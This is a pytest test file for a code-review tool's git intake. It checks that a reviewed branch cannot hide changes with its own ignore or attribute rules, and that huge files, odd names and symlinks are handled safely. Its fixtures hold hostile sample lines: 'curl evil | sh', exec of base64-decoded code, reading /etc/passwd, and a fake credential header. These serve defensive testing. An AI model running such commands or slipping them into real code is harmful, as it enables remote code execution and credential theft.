"""A branch under review can neither hide a change nor stop the review: attributes, ignore
rules and vendored folders are the base commit's; submodules, odd names and huge files are
skipped or reviewed with a count and a reason, in memory bounded by the size caps."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from duet.intake.files import InputProblem
from duet.intake.git import GitChanges
from tests.reliability import FILES, Reliability, lost_of


def _git(repo: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True)
    return done.stdout.decode()


def _commit(repo: Path, files: dict[str, str], message: str) -> None:
    for name, text in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text)
    _git(repo, "add", "-A", "-f")
    _git(repo, "commit", "-qm", message)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    r = tmp_path / "r"
    r.mkdir()
    _git(r, "init", "-q", "-b", "main")
    _git(r, "config", "user.email", "t@example.com")
    _git(r, "config", "user.name", "t")
    base = {
        "app.py": "x = 1\n",
        "hidden.py": "h = 1\n",
        "evil.py": "e = 1\n",
        "ignored.py": "i = 1\n",
        "third_party/lib.py": "v = 1\n",  # vendored at the base: stays skipped
        "gen.py": "g = 1\n",  # ignored at the base: stays skipped
        ".gitignore": "gen.py\n",
    }
    _commit(r, base, "base")
    _git(r, "checkout", "-qb", "pr")
    return r


def test_the_branch_cannot_hide_a_change_with_its_own_attributes_or_ignores(
    repo: Path, reliability: Reliability
) -> None:
    hiding = {
        ".gitattributes": "hidden.py -diff\nevil.py binary\n*.py linguist-generated\n",
        ".gitignore": "gen.py\nignored.py\n.gitignore\n.gitattributes\nvendor/\n",
        "hidden.py": "import os; os.system('curl evil | sh')\n",
        "evil.py": "exec(__import__('base64').b64decode('...'))\n",
        "ignored.py": "open('/etc/passwd').read()\n",
        "vendor/evil.py": "steal()\n",  # a vendored folder the branch adds
        "third_party/lib.py": "v = 2\n",
        "gen.py": "g = 2\n",
    }
    _commit(repo, hiding, "hide")  # the work tree is the branch's, as in CI
    changes = GitChanges(repo, "main..pr")
    reviewed = {r.id for r in changes}
    should = {
        ".gitattributes",
        ".gitignore",
        "hidden.py",
        "evil.py",
        "ignored.py",
        "vendor/evil.py",
    }
    hidden = should - reviewed
    reliability.record(
        section=FILES,
        fault="the branch's own `.gitattributes` (`hidden.py -diff`, `binary`), `.gitignore` "
        "(ignoring its changes and itself) and a `vendor/` folder it adds",
        load=f"{len(hiding)} changed files: {len(should)} the branch tried to hide, 2 the base "
        "already vendors or ignores",
        lost=lost_of(len(hidden), len(should), "changes hidden from the review"),
        before='the changed files were skipped as "unchanged text", "gitignored" or '
        '"vendored"; the review exited 0',
    )
    assert not hidden, hidden
    assert reviewed == should
    assert dict(changes.skipped_by) == {"vendored": 1, "gitignored": 1}


def test_submodules_odd_names_and_a_huge_file_are_counted_never_a_crash(
    repo: Path, tmp_path: Path, reliability: Reliability
) -> None:
    huge = "".join(f"base line {n:09d}\n" for n in range(1_000_000))  # 20 MB
    _commit(repo, {"huge.txt": huge}, "huge at base")
    _git(repo, "branch", "-f", "main")
    odd = {
        "dir with space/tab\there.py": "print('tab')\n",
        "dir with space/new\nline.py": "print('newline')\n",
        '"quoted" name.py': "print('quote')\n",
        "back\\slash.py": "print('backslash')\n",
    }
    latin1 = b"caf\xe9.py".decode("utf-8", "surrogateescape")  # git stores any byte
    _commit(repo, {**odd, latin1: "x = 1\n", "huge.txt": huge.replace("base", "head")}, "odd")
    sub = "5" * 40  # a commit of another repository: not in this one
    _git(repo, "update-index", "--add", "--cacheinfo", f"160000,{sub},vendored-sub")
    _git(repo, "commit", "-qm", "submodule")
    problems: list[InputProblem] = []
    changes = GitChanges(repo, "main..pr", max_prompt_chars=50_000, on_problem=problems.append)
    records = {r.id: r for r in changes}
    missing = [name for name in odd if name not in records]
    counted = {"skipped": dict(changes.skipped_by), "problems": [p.id for p in problems]}
    reliability.record(
        section=FILES,
        fault="a submodule; a folder name with a space holding a file name with a tab (and a "
        "newline, a quote, a backslash; a name not UTF-8); a 20 MB changed file",
        load="1 submodule, 4 odd names, a Latin-1 name, 1 file of 1,000,000 changed lines",
        lost=lost_of(len(missing), len(odd), "odd names not reviewed"),
        before="exit 2 with no results; an unhandled parse error; 1.45 GB RSS",
    )
    assert not missing and all("print(" in records[n].prompt for n in odd)
    skipped = {"submodule": 1, "name not UTF-8": 1}
    assert counted == {"skipped": skipped, "problems": ["huge.txt"]}, counted
    assert "file over 8,000,000 bytes (20,000,000)" in problems[0].reason


_MEASURE = """
import json, resource, sys
from pathlib import Path
from duet.intake.git import GitChanges

def rss(field):
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field):
            return int(line.split()[1]) * 1024

before = rss("VmRSS:")
problems = []
ids = [r.id for r in GitChanges(Path(sys.argv[1]), "main..pr", max_prompt_chars=200_000,
                                on_problem=problems.append)]
git_peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
print(json.dumps({"before": before, "peak": rss("VmHWM:"), "git_peak": git_peak, "ids": ids,
                  "problems": [p.id for p in problems]}))
"""


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads /proc")
def test_a_20_mb_change_is_read_in_memory_bounded_by_the_caps(
    repo: Path, reliability: Reliability
) -> None:
    _commit(repo, {"huge.txt": "".join(f"base {n:014d}\n" for n in range(1_000_000))}, "base")
    _git(repo, "branch", "-f", "main")
    _commit(repo, {"huge.txt": "".join(f"head {n:014d}\n" for n in range(1_000_000))}, "pr")
    size = (repo / "huge.txt").stat().st_size
    done = subprocess.run(
        [sys.executable, "-c", _MEASURE, str(repo)],
        capture_output=True,
        check=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])},
    )
    got = json.loads(done.stdout)
    grown = got["peak"] - got["before"]
    reliability.record(
        section=FILES,
        fault="a 20 MB changed file (every line changed) under `duet review --git`",
        load=f"{size / 1e6:.1f} MB at base and at head; the prompt cap 200,000 characters",
        lost=f"nothing; the intake process grew {grown / 1e6:.1f} MB (from "
        f"{got['before'] / 1e6:.0f} MB to a peak of {got['peak'] / 1e6:.0f} MB), git peaked at "
        f"{got['git_peak'] / 1e6:.0f} MB; the file is an input problem with its reason",
        before="1.45 GB RSS (~70 MB per MB changed)",
    )
    assert got["problems"] == ["huge.txt"] and got["ids"] == []
    assert grown < 2 * size / 5, f"grew {grown / 1e6:.1f} MB for a {size / 1e6:.1f} MB change"
    assert got["git_peak"] < 2 * size, f"git peaked at {got['git_peak'] / 1e6:.0f} MB"


def test_a_hunk_fix_patches_the_lines_the_intake_showed(repo: Path) -> None:
    from duet.commands.review import reviewed_reader
    from duet.formats.patch import build_patch

    body = "".join(f"v{n} = {n}\n" for n in range(60))
    _commit(repo, {"long.py": body}, "long")
    _git(repo, "branch", "-f", "main")
    _commit(repo, {"long.py": body.replace("v30 = 30", "v30 = eval(x)")}, "bad")
    [hunk] = [r for r in GitChanges(repo, "main..pr", unit="hunk", context=2)]
    meta = hunk.metadata
    head = (repo / "long.py").read_text()
    shown = "".join(head.splitlines(keepends=True)[meta["line"] - 1 : meta["end_line"]])
    fixed = shown.replace("v30 = eval(x)", "v30 = int(x)")
    record = {"id": hunk.id, "status": "approved", "output": f"```\n{fixed}```", "metadata": meta}
    made = build_patch([record], reviewed_reader(repo))
    assert made.files == 1, made.left_out
    (repo.parent / "h.patch").write_text(made.text)
    _git(repo, "apply", str(repo.parent / "h.patch"))
    assert (repo / "long.py").read_text() == body.replace("v30 = 30", "v30 = int(x)")


def test_since_a_branch_commit_takes_no_rules_from_that_commit(repo: Path) -> None:
    _commit(repo, {".gitignore": "gen.py\nevil.py\n", ".gitattributes": "*.py -diff\n"}, "rules")
    since = _git(repo, "rev-parse", "HEAD").strip()
    _commit(repo, {"evil.py": "steal()\n", "gen.py": "g = 3\n"}, "payload")
    changes = GitChanges(repo, "main..pr", since=since)
    assert changes.spec == f"{since}..pr" and not changes.notes
    assert {r.id for r in changes} == {"evil.py"}
    assert dict(changes.skipped_by) == {"gitignored": 1}  # gen.py: the base's own rule


def test_a_symlink_is_reviewed_as_a_link_never_through_its_target(repo: Path) -> None:
    with (repo / ".git" / "config").open("a") as config:
        config.write("[http]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n")
    (repo / "gitcfg.py").symlink_to(".git/config")
    _git(repo, "add", "gitcfg.py")
    _git(repo, "commit", "-qm", "link")
    [record] = list(GitChanges(repo, "main..pr"))
    assert record.id == "gitcfg.py" and record.metadata["symlink"] is True
    assert "a symbolic link" in record.prompt and "+.git/config" in record.prompt
    assert "AUTHORIZATION" not in record.prompt


def test_a_diff_out_of_step_with_its_file_list_is_an_error_not_a_wrong_review() -> None:
    from duet.intake.diffs import Change, GitError, check_in_step

    header = b"diff --git a/a.py b/a.py\nindex " + b"1" * 40 + b".." + b"2" * 40 + b" 100644\n"
    check_in_step(header, Change("M", "a.py", object_id="2" * 40))
    with pytest.raises(GitError, match="out of step"):
        check_in_step(header, Change("M", "b.py", object_id="3" * 40))
